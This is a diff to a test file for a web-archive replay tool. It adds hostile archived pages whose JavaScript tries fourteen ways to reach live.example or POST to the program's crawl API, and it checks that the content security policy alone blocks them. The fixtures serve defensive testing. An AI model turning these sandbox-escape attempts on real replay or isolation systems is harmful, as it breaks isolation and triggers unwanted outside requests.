@@ -1,5 +1,16 @@
 // Hostile archived pages on the program itself: whatever they try, our pages and API do not change, no crawl is started,
 // other archived sites keep what is theirs, and the live web hears nothing.
+//
+// What "nothing" is, in which mode:
+// - names, address: no connection (not even a silent one) and no packet, after each page and at the end; and at the end no
+//   name of the live web in the browser's log, be it looked up or connected to.
+// - opaque: the same for everything but navigations. A page without an origin has no navigation API by which our script
+//   could be first: Chromium then opens a connection ahead of a navigation that the policy refuses, and says nothing on it
+//   but, for https, the name. So there it is no request and no packet, and the name of the live web may be in the log. That
+//   name is another one than in the other modes, whose silence is thus still checked.
+// - the wall alone, in each mode: our script is left out, which stands for a hostile one that got around it, and only the
+//   policy that the program sends is left. No request and no packet, as with navigations above. Without this check a policy
+//   that allows everything is not noticed: our script takes every attempt to the archive before the policy is asked.
 
 import assert from 'node:assert/strict';
 import path from 'node:path';
@@ -9,6 +20,7 @@ import { NAME, SKIP, otherAddress, run, startServer, workshop, writeWarc } from 
 
 const EVIL = 'http://evil.example/';
 const BANK = 'http://bank.example/';
+const LIVE = 'live.example';
 const ELSEWHERE = otherAddress();
 const MODES = {
     names: { host: NAME, frames: NAME },
@@ -21,6 +33,9 @@ const MODES = {
     },
 };
 if (MODES.opaque.skip) console.log(`skipped: ${MODES.opaque.skip}; pages without an origin are not checked`);
+/** The same with names of its own where navigations are heard: live.opaque.example for live.example. */
+const inMode = (mode, text) =>
+    mode === 'opaque' ? text.replace(/\b(evil|bank|live)\.example\b/g, '$1.opaque.example') : text;
 const shop = workshop();
 let trap, server, launched;
 
@@ -105,6 +120,35 @@ const ATTEMPTS = {
         tried.set = 'tried';`,
     ),
 };
+// What the policy alone must refuse, each with an end that can be waited for.
+const WALL = evil(
+    'wall',
+    `const live = 'http://live.example/', wanted = {
+            fetch: () => fetch(live + 'fetch', { mode: 'no-cors' }),
+            api: () => fetch(UI + '/api/v1/crawls', { method: 'POST', mode: 'no-cors', body: '{}' }),
+            xhr: () => ended(new XMLHttpRequest(), x => { x.open('GET', live + 'xhr'); x.send(); }),
+            events: () => ended(new EventSource(live + 'events')),
+            socket: () => ended(new WebSocket('ws://live.example/socket')),
+            image: () => ended(new Image(), i => { i.src = live + 'image'; }),
+            script: () => ended(document.createElement('script'), e => { e.src = live + 'script'; document.body.append(e); }),
+            style: () => ended(document.createElement('link'), e => { e.rel = 'stylesheet'; e.href = live + 'style'; document.body.append(e); }),
+            video: () => ended(document.createElement('video'), e => { e.src = live + 'video'; }),
+            font: () => new FontFace('f', 'url(' + live + 'font)').load(),
+            module: () => import(live + 'module'),
+            object: () => ended(document.createElement('object'), e => { e.data = live + 'object'; document.body.append(e); }),
+            frame: () => ended(document.createElement('iframe'), e => { e.src = live + 'frame'; document.body.append(e); }),
+            worker: () => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + live + 'worker", { mode: "no-cors" }).finally(() => postMessage(1)).catch(() => {})']))); return ended(w); },
+        };
+        function ended(target, begin = () => {}) {
+            return new Promise(done => {
+                for (const name of ['load', 'error', 'open', 'message', 'loadend']) target.addEventListener(name, () => done(name), { once: true });
+                addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
+                begin(target);
+            });
+        }
+        for (const [name, attempt] of Object.entries(wanted)) tried[name] = await outcome((async () => attempt())());`,
+);
+const WALL_WAYS = 14;
 const NAVIGATIONS = {
     location: `location = 'http://live.example/location'`,
     replace: `location.replace('https://live.example/replace')`,
@@ -124,10 +168,10 @@ before(async () => {
     await first.close();
     const file = path.join(shop.folder, 'hostile.warc');
     const time = '2026-01-02T03:04:05Z';
-    writeWarc(
-        file,
+    const captures = JSON.stringify(
         [
             ...Object.values(ATTEMPTS),
+            WALL,
             ...Object.entries(NAVIGATIONS).map(([name, code]) =>
                 evil(
                     `go-${name}`,
@@ -183,6 +227,10 @@ before(async () => {
             },
         ].map(one => ({ ...one, body: one.body?.replace('THE TOKEN', token) })),
     );
+    writeWarc(
+        file,
+        ['names', 'opaque'].flatMap(mode => JSON.parse(inMode(mode, captures))),
+    );
     await run('import', '--data', shop.data, file);
     server = await startServer(shop.data, {
         address: '0.0.0.0',
@@ -194,21 +242,26 @@ before(async () => {
     shop.later(async () => {
         const names = await launched.close();
         await trap.close();
-        assert.deepEqual(trap.requests(), []);
+        assert.deepEqual(trap.seen, [], 'the live web heard from us');
         assert.deepEqual(
-            names.filter(name => name !== 'live.example'),
+            names.filter(name => name !== inMode('opaque', LIVE)),
             [],
+            'names were looked up or connected to',
         );
     });
 });
 after(() => shop.close());
 
-/** Shows archived pages, lets `act` look at each, and then sees that nothing has changed and nobody was asked. */
-async function visit(mode, names, act) {
+/** Shows archived pages, lets `act` look at each, and then sees that nothing has changed and the live web heard nothing. */
+async function visit(mode, names, act, { heard = () => trap.seen, bare = false } = {}) {
     const { host, frames } = MODES[mode];
     const ui = server.ui(host);
     const context = await launched.browser.newContext();
     context.setDefaultTimeout(10_000);
+    if (bare) {
+        const nothing = { contentType: 'text/javascript', body: '' };
+        await context.route('**/herodotus/replay.js', route => route.fulfill(nothing));
+    }
     const tab = await context.newPage();
     const urls = recordNetwork(tab);
     const reached = [];
@@ -220,12 +273,12 @@ async function visit(mode, names, act) {
     });
     try {
         for (const name of [names].flat()) {
-            await tab.goto(`${ui}/web/2026/${EVIL}${name}`, { waitUntil: 'commit' });
+            await tab.goto(inMode(bare ? 'opaque' : mode, `${ui}/web/2026/${EVIL}${name}`), { waitUntil: 'commit' });
             const frame = await (await tab.waitForSelector('iframe[data-frame]')).contentFrame();
             await act({ tab, frame, ui, context, urls, name });
             // It stands where it stood.
             assert.equal(new URL(tab.url()).origin, ui, name);
-            assert.deepEqual(heard(mode), [], `the live web heard from ${name}`);
+            assert.deepEqual(heard(), [], `the live web heard from ${name}`);
         }
         // Our own pages open a window on the archive when the reader has clicked, which the harness is taken for.
         const windows = context.pages().map(page => page.url());
@@ -240,7 +293,7 @@ async function visit(mode, names, act) {
             url => /^(?:http|ws)/.test(url) && !url.startsWith(ui + '/') && !server.isReplay(url, frames),
         );
         assert.deepEqual(
-            strays.filter(url => !url.includes('live.example')),
+            strays.filter(url => new URL(url).hostname !== inMode(bare ? 'opaque' : mode, LIVE)),
             [],
             'requests to others',
         );
@@ -249,15 +302,14 @@ async function visit(mode, names, act) {
     }
 }
 
-// Without an origin a page has no navigation API by which our script could be first: Chromium then opens a connection ahead of
-// a navigation that the policy refuses, and says nothing on it but, for https, the name.
-const heard = mode => (mode === 'opaque' ? trap.requests() : trap.seen);
-
 // Whatever came of an attempt (the archive's page, the browser's refusal, nothing) is decided when another page stands after it.
-async function nextStands(tab, ui) {
-    await tab.goto(`${ui}/web/2026/${EVIL}next.html`);
+async function nextStands(mode, tab, ui) {
+    await tab.goto(inMode(mode, `${ui}/web/2026/${EVIL}next.html`));
     await (await (await tab.waitForSelector('iframe[data-frame]')).contentFrame()).waitForSelector('#next');
 }
+
+// The silent connections that are bound to be there must not be laid to the checks that follow.
+const forgetSilent = () => trap.seen.splice(0, trap.seen.length, ...trap.requests());
 
 const resultOf = async frame => {
     await frame.waitForFunction(() => window.result);
@@ -318,34 +370,45 @@ for (const [mode, { skip }] of Object.entries(MODES)) {
     check('a bomb of cookies on every parent domain leaves our pages and replay answering', () =>
         visit(mode, 'bomb.html', async ({ tab, frame, ui }) => {
             await resultOf(frame);
-            for (const address of ['/', `/web/*/${EVIL}next.html`, '/crawls']) {
+            for (const address of ['/', inMode(mode, `/web/*/${EVIL}next.html`), '/crawls']) {
                 const response = await tab.goto(ui + address);
                 assert.equal(response.status(), 200, address);
             }
-            await nextStands(tab, ui);
-            await tab.goto(`${ui}/web/2026/${BANK}account.html`);
+            await nextStands(mode, tab, ui);
+            await tab.goto(inMode(mode, `${ui}/web/2026/${BANK}account.html`));
             await (
                 await (await tab.waitForSelector('iframe[data-frame]')).contentFrame()
             ).waitForFunction(() => document.title === 'bank');
         }),
     );
 
-    check(`navigations out, in ${Object.keys(NAVIGATIONS).length} ways`, () =>
-        visit(
+    check(`navigations out, in ${Object.keys(NAVIGATIONS).length} ways`, async () => {
+        await visit(
             mode,
             Object.keys(NAVIGATIONS).map(name => `go-${name}.html`),
             async ({ tab, frame, ui }) => {
                 await resultOf(frame);
                 await tab.evaluate(() => document.querySelector('iframe').contentWindow.postMessage('go', '*'));
-                await nextStands(tab, ui);
+                await nextStands(mode, tab, ui);
             },
-        ),
-    );
+            mode === 'opaque' ? { heard: trap.requests } : {},
+        );
+        if (mode === 'opaque') forgetSilent();
+    });
+
+    check(`the wall alone refuses ${WALL_WAYS} ways out`, async () => {
+        const act = async ({ frame, tab, ui }) => {
+            const tried = await resultOf(frame);
+            assert.equal(Object.keys(tried).length, WALL_WAYS, JSON.stringify(tried));
+            await nextStands(mode, tab, ui);
+        };
+        await visit(mode, 'wall.html', act, { heard: trap.requests, bare: true }).finally(forgetSilent);
+    });
 
     check('redirects that never end, or lead out', () =>
         visit(mode, ['loop', 'ping', 'out', 'split'], async ({ tab, urls, ui, name }) => {
             await until(tab, 'request', () => urls.some(url => server.isReplay(url, MODES[mode].frames)), name);
-            await nextStands(tab, ui);
+            await nextStands(mode, tab, ui);
             assert.ok(urls.length < 200, `${urls.length} requests`);
         }),
     );
@@ -353,7 +416,9 @@ for (const [mode, { skip }] of Object.entries(MODES)) {
     check('headers of an archived answer have no power', () =>
         visit(mode, 'headers.html', async ({ frame, context }) => {
             // The one that does something leads into the archive.
-            await frame.waitForURL(/\/web\/\d{14}\/http:\/\/live\.example\/refresh$/);
+            await frame.waitForURL(
+                url => /\/web\/\d{14}\//.test(url) && url.href.endsWith(`/http://${inMode(mode, LIVE)}/refresh`),
+            );
             assert.deepEqual(
                 (await context.cookies()).filter(cookie => cookie.name === 'secret'),
                 [],
